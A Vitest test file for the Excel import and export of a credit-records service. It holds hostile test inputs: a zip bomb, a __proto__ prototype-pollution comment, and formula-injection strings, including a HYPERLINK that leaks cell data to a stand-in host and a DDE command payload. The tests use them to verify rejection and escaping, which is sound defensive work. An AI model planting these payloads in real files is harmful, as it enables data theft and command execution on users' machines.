import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { and, count, eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ImportReport } from '../../../src/shared/generated/import-report';
import type { RecordView } from '../../../src/shared/generated/record-view';
import { demoIdNumber } from '../../../src/server/seed/demo-credit-rows';
import { auditLog, recordEvents, records } from '../../../src/server/db/schema';
import { blindHolds } from '../../../src/server/engine/records/record-store';
import { personalCipherOf } from '../../../src/server/services/crypto/personal-cipher';
import { multipartBody } from '../helpers/activity-fixtures';
import { creditWorkbook, CREDIT_HEADINGS, plantErrors } from '../helpers/credit-workbook';
import { call, creditRecordData, type Envelope } from '../helpers/resource-fixtures';
import { createTestApp, type TestApp } from '../helpers/test-app';
import { createLoggedInUser, type TestUser } from '../helpers/test-users';

/**
 * Excel import and export of the resource engine (issue 11, SECURITY R24, R25), on 信用信息: a file
 * is checked by content and row by row against the record schema (the form's), every error on its
 * row and column; the import is all or nothing; export escapes what could be a formula.
 */
let t: TestApp;
let officer: TestUser;
let applicant: TestUser;

const CREDIT = '/api/resources/credit';
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

beforeAll(async () => {
  t = await createTestApp();
  officer = await createLoggedInUser(t, 'officer', 'integrity');
  applicant = await createLoggedInUser(t, 'applicant');
});
afterAll(async () => t.close());

async function send<T>(
  user: TestUser | undefined,
  url: string,
  file: Buffer,
  filename = '信用信息.xlsx',
  headers: Record<string, string> = {},
): Promise<{ status: number; body: Envelope<T> }> {
  const body = multipartBody({}, { filename, content: file, contentType: XLSX });
  const response = await t.app.inject({
    method: 'POST',
    url,
    headers: { ...(user?.auth ?? {}), ...body.headers, ...headers },
    payload: body.payload,
  });
  return { status: response.statusCode, body: response.json<Envelope<T>>() };
}

async function creditCount(): Promise<number> {
  const rows = await t.app.database.db.select({ n: count() }).from(records).where(eq(records.resource, 'credit'));
  return rows[0]?.n ?? 0;
}

async function readWorkbook(buffer: Buffer): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(buffer as unknown as ArrayBuffer);
  return workbook;
}

describe('the import template', () => {
  it('gives the columns with their titles, required ones marked, and an example row, for <permission>.import only', async () => {
    const response = await t.app.inject({ method: 'GET', url: `${CREDIT}/import/template`, headers: officer.auth });
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe(XLSX);
    expect(decodeURIComponent(String(response.headers['content-disposition']))).toContain('信用信息导入模板文件.xlsx');
    const workbook = await readWorkbook(response.rawPayload);
    const [data, example] = workbook.worksheets;
    expect((data?.getRow(1).values as unknown[]).slice(1)).toEqual(CREDIT_HEADINGS);
    expect(CREDIT_HEADINGS.slice(0, 3)).toEqual(['*主体类型', '*主体名称', '身份证号码']);
    expect(data?.getCell('C1').note).toBeTruthy();
    expect((example?.getRow(2).values as unknown[]).slice(1, 4)).toEqual(['科研人员', '王明', '110105199003071239']);
    expect((await t.app.inject({ method: 'GET', url: `${CREDIT}/import/template`, headers: applicant.auth })).statusCode).toBe(403);
  });
});

/**
 * 10,000 rows; test:all's PGlite step sets fewer (CREDIT_IMPORT_ROWS, 2,000) when its PostgreSQL step runs
 * this file at full size, so the slow import is not run at 10,000 twice (issue 29).
 */
const ROWS = Number(process.env['CREDIT_IMPORT_ROWS'] ?? 10_000);

describe(`importing ${ROWS} rows`, () => {
  it('reports exactly the 50 planted errors at their rows and columns and stores nothing; corrected, it stores them all', async () => {
    const planted = plantErrors(50, ROWS);
    const broken = await creditWorkbook(ROWS, planted.change);
    const before = await creditCount();

    const checked = await send<ImportReport>(officer, `${CREDIT}/import/check`, broken);
    expect(checked.status).toBe(200);
    expect(checked.body.data).toMatchObject({ total: ROWS, valid: ROWS - 50, errorCount: 50, repeated: false });
    expect(checked.body.data.errors.map(({ row, column, field }) => ({ row, column, field }))).toEqual(planted.errors);
    expect(checked.body.data.errors.find((error) => error.field === 'creditType')?.message).toContain(
      '不是可选的值，请填写：抄袭、剽窃他人科研成果',
    );
    expect(checked.body.data.errors.find((error) => error.field === 'idNumber')).toMatchObject({
      title: '身份证号码',
      message: '身份证号码有误，请核对后重新输入',
    });

    const refused = await send<ImportReport>(officer, '/api/integrity/app/credit/info/import-excel', broken);
    expect(refused.status).toBe(400);
    expect(refused.body.msg).toBe('导入数据有误，未导入任何记录，请按错误清单修改后重新上传');
    expect(refused.body.data.errorCount).toBe(50);
    expect(await creditCount()).toBe(before);

    const fixed = await creditWorkbook(ROWS);
    const imported = await send<{ imported: number; sha256: string }>(officer, '/api/integrity/app/credit/info/import-excel', fixed);
    expect(imported.status).toBe(200);
    expect(imported.body.data.imported).toBe(ROWS);
    expect(await creditCount()).toBe(before + ROWS);

    // In force from the import on, each with its history row, and one audit row with the file's hash.
    const db = t.app.database.db;
    const stored = await db
      .select()
      .from(records)
      // The identity number is stored sealed (ADR 0070): found by its blind index, as the portal finds it.
      .where(and(eq(records.resource, 'credit'), blindHolds('idNumber', personalCipherOf(db).blindIndex('idNumber', demoIdNumber(0)))));
    expect(stored).toHaveLength(1);
    expect(stored[0]?.status).toBe('effective');
    // Labels in the sheet, keys in the record.
    expect(stored[0]?.data).toMatchObject({
      subjectType: 'person',
      creditType: 'plagiarism',
      severity: 'minor',
      decisionDate: '2022-01-01',
    });
    expect((await db.select().from(recordEvents).where(eq(recordEvents.recordId, stored[0]!.id)))[0]).toMatchObject({
      action: 'import',
      toStatus: 'effective',
    });
    const audit = await db.select().from(auditLog).where(eq(auditLog.event, 'RECORDS_IMPORTED'));
    expect(audit).toEqual([
      expect.objectContaining({
        objectType: 'credit',
        objectId: imported.body.data.sha256,
        action: 'integrityCredit.import',
        reason: `rows:${ROWS}`,
        userId: officer.id,
      }),
    ]);

    // The same file again within 24 hours: 409, and the check says so beforehand.
    expect((await send<ImportReport>(officer, `${CREDIT}/import/check`, fixed)).body.data.repeated).toBe(true);
    expect((await send(officer, `${CREDIT}/import`, fixed)).status).toBe(409);
    expect(await creditCount()).toBe(before + ROWS);
  }, 120_000);
});

describe('what an import refuses (SECURITY R25)', () => {
  it('needs <permission>.import and a multipart body', async () => {
    const file = await creditWorkbook(2);
    expect((await send(applicant, `${CREDIT}/import/check`, file)).status).toBe(403);
    expect((await send(undefined, `${CREDIT}/import`, file)).status).toBe(401);
    expect((await call(t, officer, 'POST', `${CREDIT}/import`, {})).status).toBe(415);
  });

  it('refuses a CSV named .xlsx, a workbook without the heading of a required column, and one without rows', async () => {
    const csv = await send(officer, `${CREDIT}/import/check`, Buffer.from('主体类型,主体名称\n科研人员,王明\n'));
    expect(csv.status).toBe(400);
    expect(csv.body.msg).toContain('不是有效的 Excel 工作簿');
    const workbook = new ExcelJS.Workbook();
    workbook.addWorksheet('导入数据').addRow(['主体名称', '身份证号码']);
    workbook.worksheets[0]?.addRow(['王明', '110105199003071239']);
    const missing = await send(officer, `${CREDIT}/import/check`, Buffer.from(await workbook.xlsx.writeBuffer()));
    expect(missing.status).toBe(400);
    expect(missing.body.msg).toBe(
      '缺少必填列：主体类型、失信行为类型、失信程度、失信事实、处理决定、决定日期、有效期至、责任单位，请使用导入模板',
    );
    const empty = await send(officer, `${CREDIT}/import/check`, await creditWorkbook(0));
    expect(empty.status).toBe(400);
    expect(empty.body.msg).toContain('没有数据行');
  });

  it('refuses a zip bomb by its central directory within 2 s', async () => {
    const zip = new JSZip();
    zip.file('[Content_Types].xml', '<?xml version="1.0"?><Types/>');
    zip.file('xl/workbook.xml', '<workbook/>');
    zip.file('xl/worksheets/sheet1.xml', '0'.repeat(200 * 1024 * 1024));
    const bomb = await zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE', compressionOptions: { level: 9 } });
    expect(bomb.length).toBeLessThan(1024 * 1024);
    const started = Date.now();
    const refused = await send(officer, `${CREDIT}/import/check`, bomb);
    expect(Date.now() - started).toBeLessThan(2000);
    expect(refused.status).toBe(400);
    expect(refused.body.msg).toBe('文件解压后过大或结构异常，已拒绝导入');
  }, 60_000);

  it('reads a workbook with a __proto__ comment reference without polluting anything', async () => {
    const file = await creditWorkbook(1);
    const zip = await JSZip.loadAsync(file);
    zip.file(
      'xl/comments1.xml',
      '<?xml version="1.0" encoding="UTF-8"?><comments xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><authors><author>x</author></authors><commentList><comment ref="__proto__" authorId="0"><text><t>polluted</t></text></comment></commentList></comments>',
    );
    const hostile = await zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' });
    const response = await send<ImportReport>(officer, `${CREDIT}/import/check`, hostile);
    expect([200, 400]).toContain(response.status);
    expect(Object.keys(Object.prototype)).toEqual([]);
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
  });

  it('refuses 50,001 rows', async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('导入数据');
    sheet.addRow(CREDIT_HEADINGS);
    for (let n = 0; n < 50_001; n += 1) sheet.addRow(['科研人员', `王${n}`]);
    const response = await send(officer, `${CREDIT}/import/check`, Buffer.from(await workbook.xlsx.writeBuffer()));
    expect(response.status).toBe(400);
    expect(response.body.msg).toBe('数据行数超过上限（每次最多 50000 行），请分批导入');
  }, 60_000);

  it('answers in English for an en-US caller, on the same rows and columns', async () => {
    const file = await creditWorkbook(3, (n, row) => (n === 1 ? [row[0]!, row[1]!, row[2]!, row[3]!, 'Fraud', ...row.slice(5)] : row));
    const response = await send<ImportReport>(officer, `${CREDIT}/import/check`, file, 'credit.xlsx', { 'accept-language': 'en-US' });
    expect(response.body.data.errors).toEqual([
      expect.objectContaining({
        row: 3,
        column: 'E',
        title: 'Misconduct',
        field: 'creditType',
        message: expect.stringContaining('Not one of the options'),
      }),
    ]);
  });
});

describe('export (SECURITY R24)', () => {
  it('writes the list under its filters as text cells, formulas escaped, numbers masked, with an audit row; <permission>.export only', async () => {
    const hostile = ['=HYPERLINK("http://x?"&A1)', '+1+1', '-2+3', '@SUM(1)', '\t=1+1', "=cmd|' /C calc'!A0"];
    for (const [index, text] of hostile.entries()) {
      const saved = await call<RecordView>(
        t,
        officer,
        'POST',
        '/api/integrity/app/credit/info/save',
        creditRecordData({ subjectName: `${text}导出${index}` }),
      );
      expect(saved.status).toBe(200);
    }
    const response = await t.app.inject({
      method: 'POST',
      url: `${CREDIT}/lists/all/export`,
      headers: officer.auth,
      payload: { subjectName: '导出' },
    });
    expect(response.statusCode).toBe(200);
    expect(decodeURIComponent(String(response.headers['content-disposition']))).toMatch(/信用信息_\d{4}-\d{2}-\d{2}文件\.xlsx/);
    const sheet = (await readWorkbook(response.rawPayload)).worksheets[0]!;
    expect((sheet.getRow(1).values as unknown[]).slice(1, 4)).toEqual(['主体名称', '主体类型', '身份证号码']);
    expect(sheet.rowCount).toBe(1 + hostile.length);
    const names: unknown[] = [];
    sheet.eachRow((row, number) => {
      if (number === 1) return;
      const name = row.getCell(1);
      expect(name.type).toBe(ExcelJS.ValueType.String);
      expect(name.formula).toBeUndefined();
      names.push(name.value);
      expect(row.getCell(2).value).toBe('科研人员');
      expect(row.getCell(3).value).toBe('110105********1239');
    });
    expect(names.sort()).toEqual(hostile.map((text, index) => `'${text}导出${index}`).sort());
    const audit = await t.app.database.db.select().from(auditLog).where(eq(auditLog.event, 'RECORDS_EXPORTED'));
    expect(audit).toEqual([
      expect.objectContaining({
        objectType: 'credit',
        objectId: 'all',
        action: 'integrityCredit.export',
        reason: `rows:${hostile.length}`,
      }),
    ]);
    expect(
      (await t.app.inject({ method: 'POST', url: `${CREDIT}/lists/all/export`, headers: applicant.auth, payload: {} })).statusCode,
    ).toBe(403);
  });

  it('escapes every cell that could start a formula and writes it as text, never as a formula', async () => {
    // The credit log is the audit log's, the audit administrator's to export (三权分立, ADR 0068).
    const auditor = await createLoggedInUser(t, 'auditor', 'auditAdmin');
    const response = await t.app.inject({
      method: 'POST',
      url: '/api/resources/audit-log/lists/credit-log/export',
      headers: auditor.auth,
      payload: {},
    });
    expect(response.statusCode).toBe(200);
    const { escapeFormula } = await import('../../../src/server/services/excel/escape-formula');
    const { writeWorkbook } = await import('../../../src/server/services/excel/write-workbook');
    const hostile = ['=HYPERLINK("http://x?"&A1)', '+1+1', '-2+3', '@SUM(1)', '\t=1+1', '\r=1', '\u0000=1', "=cmd|' /C calc'!A0"];
    const sheet = (
      await readWorkbook(
        await writeWorkbook([{ name: 'x', columns: [{ title: 'text' }, { title: 'amount' }], rows: hostile.map((text) => [text, -5]) }]),
      )
    ).worksheets[0]!;
    hostile.forEach((text, index) => {
      const cell = sheet.getRow(index + 2).getCell(1);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
      // XML keeps no NUL and turns a CR into LF: what matters is the quote in front.
      expect(String(cell.value)[0]).toBe("'");
      expect(escapeFormula(text)).toBe(`'${text}`);
      expect(sheet.getRow(index + 2).getCell(2).value).toBe(-5);
    });
    expect(escapeFormula('王明')).toBe('王明');
  });
});
